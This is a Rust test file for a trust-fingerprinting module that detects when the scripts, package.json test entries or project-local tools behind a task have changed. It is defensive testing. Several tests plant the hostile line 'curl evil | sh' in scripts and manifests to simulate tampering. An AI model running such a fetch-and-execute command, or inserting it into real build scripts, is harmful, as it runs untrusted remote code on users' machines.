//! Trust: what a task runs, fingerprinted, and judged against the record.

use std::path::Path;

use super::*;
use crate::config::Config;

fn config(root: &Path, text: &str) -> Config {
    crate::config::from_text(&root.join(crate::config::CONFIG_FILE), text).unwrap()
}

#[test]
fn a_changed_executable_part_blocks_only_its_task() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::create_dir(root.join("bin")).unwrap();
    std::fs::write(root.join("bin/check.sh"), "#!/bin/sh\necho one\n").unwrap();
    std::fs::write(root.join("eslint.config.js"), "export default [];\n").unwrap();
    let text = r#"{
      "tasks": {
        "lint": {"analyzers": ["eslint"]},
        "mine": {"analyzers": ["check"]},
        "profile": {"analyzers": ["profile"]}
      },
      "analyzers": {"check": {"command": "./bin/check.sh", "mode": "project", "parser": "exit-code"}}
    }"#;
    let fp = fingerprint(&config(root, text), root);
    assert!(fp.tasks["profile"].is_empty(), "built-in code runs nothing");
    assert!(
        fp.tasks["mine"]
            .iter()
            .any(|l| l.starts_with("file bin/check.sh ")),
        "{:?}",
        fp.tasks["mine"]
    );
    assert!(
        fp.tasks["lint"]
            .iter()
            .any(|l| l.starts_with("file eslint.config.js "))
    );
    let record = Record {
        root: root.to_owned(),
        trusted_at_ms: 0,
        tasks: fp.tasks.clone(),
    };
    let all = evaluate(&fp, Some(&record));
    assert!(all.values().all(|t| *t == TaskTrust::Trusted));
    assert!(
        evaluate(&fp, None)
            .values()
            .all(|t| *t == TaskTrust::Untrusted)
    );

    std::fs::write(root.join("bin/check.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let now = evaluate(&fingerprint(&config(root, text), root), Some(&record));
    assert_eq!(now["lint"], TaskTrust::Trusted);
    assert_eq!(now["profile"], TaskTrust::Trusted);
    let TaskTrust::Changed { diff } = &now["mine"] else {
        panic!("{now:?}")
    };
    assert_eq!(diff.len(), 2, "{diff:?}");
    assert!(diff[0].starts_with("- file bin/check.sh"));
    assert!(diff[1].starts_with("+ file bin/check.sh"));

    let changed_args = text.replace(
        r#""parser": "exit-code""#,
        r#""parser": "exit-code", "args": ["--all"]"#,
    );
    let now = evaluate(
        &fingerprint(&config(root, &changed_args), root),
        Some(&record),
    );
    assert!(matches!(now["mine"], TaskTrust::Changed { .. }));
    assert_eq!(now["lint"], TaskTrust::Trusted);
}

#[test]
fn npm_test_trusts_the_test_scripts_not_the_whole_manifest() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let text = r#"{"tasks": {"tests": {"analyzers": ["npm-test"]}}}"#;
    std::fs::write(
        root.join("package.json"),
        r#"{"version": "1.0.0", "scripts": {"test": "node t.js"}}"#,
    )
    .unwrap();
    let before = fingerprint(&config(root, text), root);
    std::fs::write(
        root.join("package.json"),
        r#"{"version": "1.0.1", "scripts": {"test": "node t.js", "build": "x"}}"#,
    )
    .unwrap();
    assert_eq!(fingerprint(&config(root, text), root), before);
    std::fs::write(
        root.join("package.json"),
        r#"{"scripts": {"test": "curl evil | sh"}}"#,
    )
    .unwrap();
    assert_ne!(fingerprint(&config(root, text), root), before);
}

fn git(root: &Path, args: &[&str]) {
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(root)
        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
        .args(args)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
}

fn tool(root: &Path, rel: &str, body: &str) {
    use std::os::unix::fs::PermissionsExt;
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, format!("#!/bin/sh\n{body}\n")).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// A repository whose `.venv` and `node_modules` are ignored, as a
/// user's own environments are.
fn repo() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    git(dir.path(), &["init", "-q"]);
    std::fs::write(
        dir.path().join(".gitignore"),
        ".venv/\nvenv/\nnode_modules/\n",
    )
    .unwrap();
    dir
}

const TASKS: &str = r#"{"tasks": {
    "security": {"analyzers": ["bandit"]},
    "lint": {"analyzers": ["eslint"]},
    "profile": {"analyzers": ["profile"]}
}}"#;

fn lines(root: &Path, task: &str, tracked: &mut Tracked) -> Vec<String> {
    fingerprint_with(&config(root, TASKS), root, tracked).tasks[task].clone()
}

#[test]
fn a_tool_git_tracks_in_a_project_environment_is_trusted_by_content() {
    let dir = repo();
    let root = dir.path();
    let mut tracked = Tracked::default();
    // The user's own, ignored environment: nothing to trust, no noise.
    tool(root, ".venv/bin/bandit", "exec real-bandit \"$@\"");
    tool(root, "node_modules/.bin/eslint", "exec real-eslint \"$@\"");
    git(root, &["add", ".gitignore"]);
    git(root, &["commit", "-qm", "one"]);
    let clean = fingerprint_with(&config(root, TASKS), root, &mut tracked);
    assert!(
        clean
            .tasks
            .values()
            .flatten()
            .all(|l| !l.contains(".venv") && !l.contains("node_modules")),
        "{clean:?}"
    );
    assert_eq!(
        fingerprint(&config(root, TASKS), root),
        clean,
        "the same without a cache"
    );

    // As if pulled: a tracked tool shadows the user's.
    tool(
        root,
        ".venv/bin/bandit",
        "touch /tmp/marker; exec real-bandit \"$@\"",
    );
    git(root, &["add", "-f", ".venv/bin/bandit"]);
    git(root, &["commit", "-qm", "two"]);
    let now = fingerprint_with(&config(root, TASKS), root, &mut tracked);
    assert!(
        now.tasks["security"]
            .iter()
            .any(|l| l.starts_with("file .venv/bin/bandit ")),
        "{now:?}"
    );
    let record = Record {
        root: root.to_owned(),
        trusted_at_ms: 0,
        tasks: clean.tasks.clone(),
    };
    let states = evaluate(&now, Some(&record));
    let TaskTrust::Changed { diff } = &states["security"] else {
        panic!("{states:?}")
    };
    assert_eq!(diff.len(), 1, "{diff:?}");
    assert!(diff[0].starts_with("+ file .venv/bin/bandit "), "{diff:?}");
    assert_eq!(
        states["lint"],
        TaskTrust::Trusted,
        "eslint does not look in .venv"
    );
    assert_eq!(states["profile"], TaskTrust::Trusted);

    // A later change to the tracked tool, committed or not, is seen.
    let record = Record {
        root: root.to_owned(),
        trusted_at_ms: 0,
        tasks: now.tasks.clone(),
    };
    tool(root, ".venv/bin/bandit", "curl evil | sh");
    let states = evaluate(
        &fingerprint_with(&config(root, TASKS), root, &mut tracked),
        Some(&record),
    );
    assert!(
        matches!(states["security"], TaskTrust::Changed { .. }),
        "{states:?}"
    );

    // So is anything else tracked there, which the real tool would import.
    std::fs::create_dir_all(root.join(".venv/lib/site-packages/bandit")).unwrap();
    std::fs::write(
        root.join(".venv/lib/site-packages/bandit/__init__.py"),
        "import os\n",
    )
    .unwrap();
    git(root, &["add", "-f", ".venv/lib"]);
    assert!(
        lines(root, "security", &mut tracked)
            .iter()
            .any(|l| l.starts_with("file .venv/lib/site-packages/bandit/__init__.py ")),
    );
}

#[test]
fn every_project_lookup_location_counts() {
    let dir = repo();
    let root = dir.path();
    let mut tracked = Tracked::default();
    tool(root, "venv/bin/bandit", "echo venv");
    tool(root, "node_modules/.bin/eslint", "echo node");
    git(root, &["add", "-f", "venv", "node_modules"]);
    assert!(
        lines(root, "security", &mut tracked)
            .iter()
            .any(|l| l.starts_with("file venv/bin/bandit "))
    );
    let lint = lines(root, "lint", &mut tracked);
    assert!(
        lint.iter()
            .any(|l| l.starts_with("file node_modules/.bin/eslint ")),
        "{lint:?}"
    );
    assert!(!lint.iter().any(|l| l.contains("venv/")), "{lint:?}");

    // Wrappers and relative commands are files of the project too.
    tool(root, "gradlew", "echo gradle");
    tool(root, "mvnw", "echo maven");
    let text = r#"{"tasks": {"g": {"analyzers": ["gradle"]}, "m": {"analyzers": ["maven"]}}}"#;
    let fp = fingerprint(&config(root, text), root);
    assert!(
        fp.tasks["g"].iter().any(|l| l.starts_with("file gradlew ")),
        "{fp:?}"
    );
    assert!(
        fp.tasks["m"].iter().any(|l| l.starts_with("file mvnw ")),
        "{fp:?}"
    );
}

#[test]
fn a_linked_environment_is_followed_inside_the_worktree_and_named_outside() {
    let dir = repo();
    let root = dir.path();
    std::fs::write(root.join(".gitignore"), "").unwrap();
    tool(root, "tools/env/bin/bandit", "echo mine");
    std::os::unix::fs::symlink("tools/env", root.join(".venv")).unwrap();
    git(root, &["add", "-A"]);
    let mut tracked = Tracked::default();
    let security = lines(root, "security", &mut tracked);
    assert!(
        security
            .iter()
            .any(|l| l.starts_with("file tools/env/bin/bandit ")),
        "{security:?}"
    );
    assert!(
        security
            .iter()
            .any(|l| l.starts_with("file .venv (a directory) (link to tools/env)")),
        "{security:?}"
    );

    // Hostile tool config files are named, never read.
    std::os::unix::fs::symlink("/dev/zero", root.join("conftest.py")).unwrap();
    let text = r#"{"tasks": {"tests": {"analyzers": ["pytest"]}}}"#;
    let fp = fingerprint(&config(root, text), root);
    assert!(
        fp.tasks["tests"]
            .iter()
            .any(|l| l == "file conftest.py -> /dev/zero (out of the worktree)"),
        "{fp:?}"
    );
}
